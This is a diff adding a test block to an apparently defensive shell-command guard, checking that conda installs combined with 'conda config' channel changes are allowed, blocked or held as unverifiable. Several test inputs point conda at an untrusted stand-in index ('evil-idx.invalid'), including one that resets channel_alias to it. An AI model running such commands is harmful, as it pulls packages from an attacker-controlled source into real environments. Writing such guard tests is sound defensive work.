@@ -268,3 +268,19 @@ describe('guardShellCommand: conda recipe builds', () => {
     expect(verdict.verdict, verdict.reasons.join('\n')).toBe(expected);
   });
 });
+
+describe('guardShellCommand: conda config in the same command', () => {
+  it('reads a channel `conda config` added as `-c` would be read; harmless settings change nothing; others stay unverifiable', async () => {
+    expect((await guard('conda config --add channels bioconda && conda install -y zzq-ghost-bio')).verdict).toBe('allow');
+    expect(
+      (await guard('conda config --add channels conda-forge && conda config --set channel_priority strict && conda install -y numpy'))
+        .verdict,
+    ).toBe('allow');
+    // A name the list covers stays missing; an untrusted channel keeps the doubt, as with `-c`.
+    expect((await guard('conda config --add channels conda-forge && mamba install -y zzq-ghost-bio')).verdict).toBe('block');
+    expect((await guard('conda config --add channels evil-idx.invalid && conda install -y numpy')).verdict).not.toBe('allow');
+    expect((await guard('conda install -c evil-idx.invalid -y numpy')).verdict).not.toBe('allow');
+    expect((await guard('conda config --set channel_alias https://evil-idx.invalid && conda install -y numpy')).verdict).toBe('block');
+    expect((await guard('(conda config --add channels evil-idx.invalid) && conda install -y numpy')).verdict).not.toBe('allow');
+  });
+});
